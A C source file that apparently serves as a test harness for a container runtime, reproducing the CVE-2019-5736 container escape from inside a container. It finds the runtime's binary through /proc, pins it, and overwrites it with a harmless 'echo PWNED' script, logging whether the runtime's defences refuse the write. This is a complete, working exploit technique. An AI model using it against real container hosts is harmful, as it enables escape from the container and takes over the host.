/*
 * exe-overwrite: CVE-2019-5736 as a container's process plays it.
 *
 * It watches its PID namespace for a process that runs a file from outside
 * the container's root (the runtime's binary: `contain exec`'s process before
 * its execve, or contain itself, run by a "#!/proc/self/exe" script), pins
 * that file with an O_PATH open of /proc/<pid>/exe, and then reopens it for
 * writing (O_TRUNC) through /proc/self/fd/N: ETXTBSY while any process runs
 * it, success once the runtime has exited, unless the runtime made the file
 * unwritable (EROFS, EPERM) or gave the process a copy of its own.
 *
 * Usage: exe-overwrite REPORT. One line per finding is appended to REPORT:
 *   scanning
 *   found pid=... exe=... dev=MAJ:MIN ino=... cmdline=... scans=...
 *   wrote N bytes after K ETXTBSY        (the file is overwritten)
 *   reopen errno=EROFS after K ETXTBSY   (refused)
 *   write errno=EPERM after K ETXTBSY    (opened, but not writable: a sealed memfd)
 *   gave up: ETXTBSY for 10 s after K tries
 *   denied pid=... errno=EACCES cmdline=... (seen, but its exe may not be opened)
 *   found nothing to pin (N scans)           (after 15 s, or 3 s after a denial)
 * It never forks, so every other process it sees is someone else's.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define SCAN_SECONDS 15
#define REOPEN_SECONDS 10
static const char MARK[] = "#!/bin/sh\necho PWNED\n";

static int report = 2;

static void say(const char *fmt, ...)
{
	char line[4096];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(line, sizeof line - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof line - 2)
		n = sizeof line - 2;
	line[n++] = '\n';
	/* One write per line, O_APPEND: the test may read the file at any moment. */
	if (write(report, line, n) < 0)
		exit(2);
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void cmdline_of(pid_t pid, char *out, size_t size)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, out, size - 1);
	if (fd >= 0)
		close(fd);
	if (n < 0)
		n = 0;
	for (ssize_t i = 0; i < n; i++)
		if (out[i] == 0)
			out[i] = ' ';
	while (n > 0 && out[n - 1] == ' ')
		n--;
	out[n] = 0;
}

/*
 * Whether the pinned executable is not a file of our root: its path, looked
 * up here, is missing or another file (another dev:ino). Path and identity
 * both come from the pinned fd, so a process that execs meanwhile cannot mix
 * the two.
 */
static int foreign(int fd, char *link, size_t size, struct stat *st)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(path, link, size - 1);
	struct stat here;
	if (n < 0 || fstat(fd, st) != 0)
		return 0;
	link[n] = 0;
	return stat(link, &here) != 0 || here.st_dev != st->st_dev || here.st_ino != st->st_ino;
}

/*
 * A tight scan of /proc for a process running a foreign file, pinned with
 * O_PATH (returned); the runtime's may live only a few ms. A process whose
 * exe we may not open (a non-dumpable runtime: EACCES, EPERM) is reported as
 * seen, and the scan ends soon after unless a foreign one turns up.
 */
static int find(pid_t *pid, char *link, size_t size, struct stat *st, long *scans)
{
	pid_t self = getpid(), denied = 0;
	double deadline = now() + SCAN_SECONDS;
	DIR *proc = opendir("/proc");
	if (!proc) {
		say("opendir /proc errno=%s", strerrorname_np(errno));
		exit(1);
	}
	for (*scans = 1; now() < deadline; ++*scans) {
		rewinddir(proc);
		struct dirent *e;
		while ((e = readdir(proc))) {
			pid_t p = atoi(e->d_name);
			if (p <= 0 || p == self)
				continue;
			char path[64], cmdline[1024];
			snprintf(path, sizeof path, "/proc/%d/exe", p);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				/* ENOENT: gone, or a zombie */
				if ((errno == EACCES || errno == EPERM) && p != denied) {
					int err = errno;
					cmdline_of(p, cmdline, sizeof cmdline);
					say("denied pid=%d errno=%s cmdline=%s scans=%ld", p, strerrorname_np(err), cmdline, *scans);
					denied = p;
					if (deadline > now() + 3)
						deadline = now() + 3;
				}
				continue;
			}
			if (foreign(fd, link, size, st)) {
				*pid = p;
				closedir(proc);
				return fd;
			}
			close(fd);
		}
	}
	closedir(proc);
	return -1;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: exe-overwrite REPORT\n");
		return 2;
	}
	report = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (report < 0) {
		perror(argv[1]);
		return 2;
	}
	say("scanning");

	char link[1024], cmdline[1024];
	struct stat st;
	pid_t pid = 0;
	long scans;
	int fd = find(&pid, link, sizeof link, &st, &scans);
	if (fd < 0) {
		say("found nothing to pin (%ld scans)", scans);
		return 1;
	}
	/* Empty while the process is inside execve: it has no arguments yet. */
	for (int i = 0; i < 20; i++) {
		cmdline_of(pid, cmdline, sizeof cmdline);
		if (*cmdline)
			break;
		usleep(1000);
	}
	say("found pid=%d exe=%s dev=%u:%u ino=%lu cmdline=%s scans=%ld", pid, link, major(st.st_dev), minor(st.st_dev),
	    (unsigned long)st.st_ino, cmdline, scans);

	/* The magic link reopens the pinned file itself, whatever mount or
	 * path it has on the host. */
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
	double deadline = now() + REOPEN_SECONDS;
	long busy = 0;
	for (;;) {
		int w = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (w >= 0) {
			ssize_t n = write(w, MARK, sizeof MARK - 1);
			if (n < 0)
				say("write errno=%s after %ld ETXTBSY", strerrorname_np(errno), busy);
			else
				say("wrote %zd bytes after %ld ETXTBSY", n, busy);
			close(w);
			return 0;
		}
		if (errno != ETXTBSY) {
			say("reopen errno=%s after %ld ETXTBSY", strerrorname_np(errno), busy);
			return 0;
		}
		busy++;
		if (now() > deadline) {
			say("gave up: ETXTBSY for %d s after %ld tries", REOPEN_SECONDS, busy);
			return 0;
		}
		usleep(1000);
	}
}
